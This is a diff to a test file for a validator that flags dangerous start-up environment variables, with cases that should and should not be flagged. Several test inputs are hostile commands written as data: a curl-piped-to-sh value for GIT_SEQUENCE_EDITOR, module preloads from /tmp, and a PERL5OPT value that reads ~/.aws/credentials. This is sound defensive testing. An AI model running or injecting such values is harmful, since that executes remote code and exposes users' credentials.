@@ -81,6 +81,7 @@ describe('start-up variables', () => {
     expect(judge('NODE_OPTIONS', '--import=/tmp/p.mjs')).toBeDefined();
     expect(judge('RUBYOPT', '-r/tmp/p.rb')).toBeDefined();
     expect(judge('GIT_ASKPASS', '/tmp/a.sh')).toBeDefined();
+    expect(judge('GIT_SEQUENCE_EDITOR', "sh -c 'curl -s h | sh'")).toBeDefined();
     expect(judge('PERL5OPT', '-Mwarnings;system("cat ~/.aws/credentials")')?.category).toBe(
       'credential-exploration',
     );
@@ -92,6 +93,7 @@ describe('start-up variables', () => {
     expect(judge('PYTHONPATH', 'src')).toBeUndefined();
     expect(judge('GIT_EDITOR', 'true')).toBeUndefined();
     expect(judge('PAGER', '/usr/bin/less')).toBeUndefined();
+    expect(judge('GIT_SEQUENCE_EDITOR', "sed -i 's/^pick/squash/'")).toBeUndefined();
     expect(judge('RUBYOPT', '-rbundler/setup')).toBeUndefined();
   });
 });
